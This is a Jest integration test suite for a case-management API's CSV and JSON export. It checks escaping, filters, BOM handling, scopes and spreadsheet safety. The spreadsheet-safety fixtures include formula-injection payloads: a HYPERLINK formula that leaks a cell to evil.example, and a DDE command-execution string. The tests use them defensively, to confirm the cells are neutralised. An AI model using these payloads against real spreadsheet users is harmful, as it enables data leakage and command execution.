import { csvField } from '@wardline/common';
import { CASE_EXPORT_COLUMNS } from '../../apps/api/src/modules/cases/case-export.columns';
import type { CaseResponse } from '../../apps/api/src/modules/cases/case.response';
import type { KeyedUser } from '../support/fixtures';
import { parseCsv, parseCsvRecords } from '../support/csv';
import type { ApiResponse } from '../support/http';
import {
  CASE_FIELDS,
  type CaseBody,
  createCase,
  createCases,
  wardRef,
  expectEnvelope,
  expectFieldError,
  ids,
  type NamedRef,
  type Params,
  patchCase,
  query,
  useCaseSuite,
  walkCursor,
} from './case-helpers';

/** Enough cases to page the list; the export reads them in one batch (its keyset continuation is measured on the bench's 1M cases). */
const COUNT = 510;
const PRIORITIES = ['low', 'normal', 'high', 'urgent'];
const TRICKY = {
  summary: 'Flooding, "urgent"\nÉglise Road — naïve café',
  description: 'Line one\r\nLine two, with "quotes", and a trailing comma,',
  residentName: "O'Brien, Siobhán",
  residentAddress: "1 Rue de l'Église\nParis 東京",
  internalRef: '"quoted"',
  tags: ['flood, river', 'naïve "x"'],
  publicThemes: ['Überschwemmung'],
};

/** The CSV cell a JSON value becomes: empty for null, joined lists, booleans and numbers as text. */
function cell(value: unknown): string {
  if (value === null || value === undefined) return '';
  if (Array.isArray(value)) return value.join('; ');
  return String(value);
}

/** What the CSV record of `kase` holds for `column`; related rows are flattened to id and name. */
function csvValue(kase: CaseBody, column: string): string {
  const related = /^(ward|category|assignee)(Id|Name)$/.exec(column);
  if (related) {
    const ref = kase[related[1] as 'ward' | 'category' | 'assignee'];
    return cell(related[2] === 'Id' ? ref?.id : ref?.name);
  }
  if (!(column in kase)) throw new Error(`CSV column ${column} has no counterpart in the JSON case`);
  return cell(kase[column as keyof CaseBody]);
}

const todayUtc = () => new Date().toISOString().slice(0, 10);

/**
 * The CSV the JS encoder (`csvField` over `CASE_EXPORT_COLUMNS`) makes of the JSON export's
 * cases: what the CSV export wrote before PostgreSQL wrote it.
 */
function encodedInNode(cases: CaseBody[], bom = false): string {
  const header = CASE_EXPORT_COLUMNS.map((column) => csvField(column.header)).join(',');
  const lines = cases.map((kase) =>
    CASE_EXPORT_COLUMNS.map((column) => csvField(column.value(kase as unknown as CaseResponse))).join(','),
  );
  return `${bom ? '\uFEFF' : ''}${[header, ...lines].map((line) => `${line}\n`).join('')}`;
}

function expectAttachment(response: ApiResponse, extension: 'csv' | 'json'): void {
  const disposition = response.headers.get('content-disposition') ?? '';
  const match = /^attachment; filename="cases-export-(\d{4}-\d{2}-\d{2})\.(\w+)"$/.exec(disposition);
  expect({ disposition, ok: match !== null }).toEqual({ disposition, ok: true });
  expect(match?.[2]).toBe(extension);
  expect([todayUtc(), new Date(Date.now() - 60_000).toISOString().slice(0, 10)]).toContain(match?.[1]);
}

describe('Cases: export (contract §4)', () => {
  const suite = useCaseSuite();
  let admin: KeyedUser;
  let ward: NamedRef;
  let tricky: CaseBody;
  let created: CaseBody[];
  let csv: ApiResponse;
  let json: ApiResponse;

  const exportCases = (params: Params) => suite.request('GET', `/api/cases/export${query(params)}`, { key: admin.key });
  /** Ids the list route gives for `params`, every page. */
  const listed = async (params: Params) =>
    ids(await walkCursor(suite.request, admin.key, { ...params, pageSize: 100 }));

  beforeAll(async () => {
    admin = await suite.fixtures.keyedUser('council', 'admin');
    ward = await wardRef(suite.request, admin.key, 'Export ward');
    const assignee = await suite.fixtures.user(admin.tenant, 'caseworker', 'Export, "Worker"');
    tricky = await createCase(suite.request, admin.key, { ...TRICKY, wardId: ward.id, assigneeId: assignee.id });
    created = await createCases(
      suite.request,
      admin.key,
      Array.from({ length: COUNT }, (_, i) => ({
        summary: `Export case ${i}`,
        priority: PRIORITIES[i % 4],
        wardId: i % 2 === 0 ? ward.id : undefined,
        residentName: `Resident ${i}`,
        tags: i % 5 === 0 ? ['five', 'tag'] : [],
      })),
      // Creates in one tenant queue on its reference counter: more at once only adds lock waits.
      10,
    );
    for (const kase of created.slice(0, 3)) await patchCase(suite.request, admin.key, kase.id, { status: 'resolved' });
    for (const kase of created.slice(10, 12)) await patchCase(suite.request, admin.key, kase.id, { archived: true });
    [csv, json] = await Promise.all([exportCases({ format: 'csv' }), exportCases({ format: 'json' })]);
  }, 120_000);

  describe('CSV', () => {
    it('is a text/csv attachment named cases-export-YYYY-MM-DD.csv with a header row', () => {
      expect(csv.status).toBe(200);
      expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
      expectAttachment(csv, 'csv');
      const [header] = parseCsv(csv.text);
      expect(header).toEqual(expect.arrayContaining(['id', 'reference', 'summary', 'status', 'priority']));
      // Every scalar field of the contract is a column; related rows appear as <name>Id and <name>Name.
      const scalar = CASE_FIELDS.filter((field) => !['ward', 'category', 'assignee'].includes(field));
      expect(header).toEqual(expect.arrayContaining(scalar));
      expect(header).toEqual(expect.arrayContaining(['wardId', 'categoryId', 'assigneeId']));
    });

    it('has every current case, more than one internal batch of 500, each once', async () => {
      const { records } = parseCsvRecords(csv.text);
      const expected = await listed({});
      expect(expected).toHaveLength(COUNT + 1 - 2);
      expect(records).toHaveLength(expected.length);
      const exported = records.map((record) => record.id);
      expect(new Set(exported).size).toBe(exported.length);
      expect(exported.toSorted()).toEqual(expected.toSorted());
    });

    it('is the default format', async () => {
      const response = await exportCases({});
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
      expectAttachment(response, 'csv');
      expect(parseCsvRecords(response.text).records).toHaveLength(COUNT + 1 - 2);
    });
  });

  describe('JSON', () => {
    it('is a JSON array attachment of every current case, each exactly as the list shows it (no timeline)', async () => {
      expect(json.status).toBe(200);
      expect(json.headers.get('content-type')).toMatch(/^application\/json/);
      expectAttachment(json, 'json');
      expect(Array.isArray(json.body)).toBe(true);
      const rows = json.body as CaseBody[];
      expect(rows).toHaveLength(COUNT + 1 - 2);
      expect(new Set(ids(rows)).size).toBe(rows.length);

      const fromList = await walkCursor(suite.request, admin.key, { pageSize: 100 });
      const byId = new Map(fromList.map((kase) => [kase.id, kase]));
      expect(
        rows.map((row) => Object.keys(row).toSorted()).filter((keys) => keys.join() !== CASE_FIELDS.join()),
      ).toEqual([]);
      const different = rows.filter((row) => JSON.stringify(row) !== JSON.stringify(byId.get(row.id)));
      expect(different).toEqual([]);
    });
  });

  describe('CSV and JSON agree', () => {
    it('every CSV record parses back to the values of the JSON export', () => {
      const { header, records } = parseCsvRecords(csv.text);
      const byId = new Map((json.body as CaseBody[]).map((kase) => [kase.id, kase]));
      expect(records).toHaveLength(byId.size);
      const mismatches: unknown[] = [];
      for (const record of records) {
        const kase = byId.get(record.id);
        if (!kase) {
          mismatches.push({ missingInJson: record.id });
          continue;
        }
        const expected = Object.fromEntries(header.map((column) => [column, csvValue(kase, column)]));
        if (JSON.stringify(record) !== JSON.stringify(expected)) mismatches.push({ record, expected });
      }
      expect(mismatches).toEqual([]);
    });

    it('commas, double quotes, line breaks and non-ASCII text round-trip (RFC 4180)', () => {
      const record = parseCsvRecords(csv.text).records.find((row) => row.id === tricky.id);
      expect(record).toMatchObject({
        summary: TRICKY.summary,
        description: TRICKY.description,
        residentName: TRICKY.residentName,
        residentAddress: TRICKY.residentAddress,
        internalRef: TRICKY.internalRef,
        wardName: 'Export ward',
        assigneeName: 'Export, "Worker"',
      });
      const row = (json.body as CaseBody[]).find((kase) => kase.id === tricky.id);
      expect(row).toMatchObject({ ...TRICKY, assignee: expect.objectContaining({ name: 'Export, "Worker"' }) });
      expect(csv.text).toContain('"Flooding, ""urgent""\nÉglise Road — naïve café"');
    });
  });

  describe('filters', () => {
    const FILTERS: [string, () => Params][] = [
      ['status=resolved', () => ({ status: 'resolved' })],
      ['priority=urgent', () => ({ priority: 'urgent' })],
      ['wardId', () => ({ wardId: ward.id })],
      ['wardId + priority=low', () => ({ wardId: ward.id, priority: 'low' })],
      ['archived=true', () => ({ archived: true })],
      ['search', () => ({ search: 'Flooding' })],
      ['createdFrom', () => ({ createdFrom: created[255].createdAt })],
    ];

    it.each(FILTERS)('%s: CSV and JSON export exactly the cases the list shows', async (_name, params) => {
      const expected = (await listed(params())).toSorted();
      expect(expected.length).toBeGreaterThan(0);
      const [csvResponse, jsonResponse] = await Promise.all([
        exportCases({ ...params(), format: 'csv' }),
        exportCases({ ...params(), format: 'json' }),
      ]);
      expect(csvResponse.status).toBe(200);
      expect(jsonResponse.status).toBe(200);
      expect(
        parseCsvRecords(csvResponse.text)
          .records.map((record) => record.id)
          .toSorted(),
      ).toEqual(expected);
      expect(ids(jsonResponse.body).toSorted()).toEqual(expected);
    });

    it('the archived export holds only archived cases', async () => {
      const response = await exportCases({ format: 'json', archived: true });
      expect(ids(response.body).toSorted()).toEqual(ids(created.slice(10, 12)).toSorted());
      expect(response.body.every((kase: CaseBody) => kase.archived)).toBe(true);
    });

    it('bad filter values and an unknown format answer 400', async () => {
      expectFieldError(await exportCases({ format: 'csv', status: 'bogus' }), 400, 'status');
      expectFieldError(await exportCases({ format: 'json', createdFrom: 'notadate' }), 400, 'createdFrom');
      expectFieldError(await exportCases({ format: 'json', archived: 'maybe' }), 400, 'archived');
      expectFieldError(await exportCases({ format: 'xml' }), 400, 'format');
    });
  });

  it('a tenant without cases exports just the header row (CSV) or [] (JSON)', async () => {
    const empty = await suite.fixtures.keyedUser('council', 'admin');
    const emptyCsv = await suite.request('GET', '/api/cases/export?format=csv', { key: empty.key });
    expect(emptyCsv.status).toBe(200);
    expect(parseCsv(emptyCsv.text)).toEqual([parseCsv(csv.text)[0]]);
    const emptyJson = await suite.request('GET', '/api/cases/export?format=json', { key: empty.key });
    expect(emptyJson.status).toBe(200);
    expect(emptyJson.body).toEqual([]);
  });

  describe('safe for spreadsheets', () => {
    const FORMULAS = {
      summary: '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
      description: '+cmd|" /C calc"!A0',
      residentName: '@SUM(1+1)',
      internalRef: '-2+3',
      residentAddress: '=1+1\nSecond line',
    };
    let owner: KeyedUser;
    let formula: CaseBody;
    let plain: CaseBody;

    beforeAll(async () => {
      owner = await suite.fixtures.keyedUser('council', 'admin');
      formula = await createCase(suite.request, owner.key, FORMULAS);
      plain = await createCase(suite.request, owner.key, {
        summary: 'A plain summary - with a dash',
        residentName: "O'Neill",
      });
    });

    it('cells starting with =, +, - or @ get a leading quote; the JSON export keeps the text as given', async () => {
      const csvText = (await suite.request('GET', '/api/cases/export?format=csv', { key: owner.key })).text;
      const records = parseCsvRecords(csvText).records;
      const record = records.find((row) => row.id === formula.id);
      expect(record).toMatchObject({
        summary: `'${FORMULAS.summary}`,
        description: `'${FORMULAS.description}`,
        residentName: `'${FORMULAS.residentName}`,
        internalRef: `'${FORMULAS.internalRef}`,
        residentAddress: `'${FORMULAS.residentAddress}`,
      });
      expect(records.find((row) => row.id === plain.id)).toMatchObject({
        summary: 'A plain summary - with a dash',
        residentName: "O'Neill",
      });
      const jsonRows = (await suite.request('GET', '/api/cases/export?format=json', { key: owner.key }))
        .body as CaseBody[];
      expect(jsonRows.find((row) => row.id === formula.id)).toMatchObject(FORMULAS);
    });

    it('?bom=true starts the CSV with a UTF-8 byte order mark; without it there is none', async () => {
      const withBom = await suite.request('GET', '/api/cases/export?format=csv&bom=true', { key: owner.key });
      expect(withBom.status).toBe(200);
      expect(withBom.text.startsWith('\uFEFFid,')).toBe(true);
      expect(parseCsvRecords(withBom.text.slice(1)).records).toHaveLength(2);
      for (const params of ['format=csv', 'format=csv&bom=false']) {
        const without = await suite.request('GET', `/api/cases/export?${params}`, { key: owner.key });
        expect(without.text.startsWith('id,')).toBe(true);
      }
      expectFieldError(await suite.request('GET', '/api/cases/export?bom=yes', { key: owner.key }), 400, 'bom');
    });
  });

  describe('the CSV is byte for byte what the JS encoder makes of the same cases', () => {
    const LEADING = {
      summary: '\tTabbed summary',
      description: '\rCarriage return first, then "quotes", commas,\nand lines',
      residentName: '-Minus Person',
      internalRef: '@handle',
      residentAddress: '+44 line\r\nsecond line',
      tags: ['=x', 'a,b', 'Ümlaut "q"'],
      publicThemes: ['+theme', '東京'],
    };
    let owner: KeyedUser;

    beforeAll(async () => {
      owner = await suite.fixtures.keyedUser('council', 'admin');
      await createCase(suite.request, owner.key, LEADING);
      await createCase(suite.request, owner.key, { summary: 'Plain', tags: [] });
      await createCase(suite.request, owner.key, { ...TRICKY, residentEmail: 'a@example.com' });
    });

    it.each([
      ['the big tenant', () => admin.key],
      ['leading tab, CR, -, +, @, = and lists', () => owner.key],
    ])('%s, with and without a BOM', async (_name, key) => {
      const get = (params: string) => suite.request('GET', `/api/cases/export?${params}`, { key: key() });
      const cases = (await get('format=json')).body as CaseBody[];
      expect(cases.length).toBeGreaterThan(0);
      expect((await get('format=csv')).text).toBe(encodedInNode(cases));
      expect((await get('format=csv&bom=true')).text).toBe(encodedInNode(cases, true));
    });
  });

  it('needs cases:read (a cases:write key gets 403)', async () => {
    const writer = await suite.fixtures.key(admin.tenant, admin.owner, ['cases:write']);
    const response = await suite.request('GET', '/api/cases/export?format=json', { key: writer.key });
    expectEnvelope(response, 403);
    expect(response.body.details).toMatchObject({ requiredScope: 'cases:read' });
  });
});
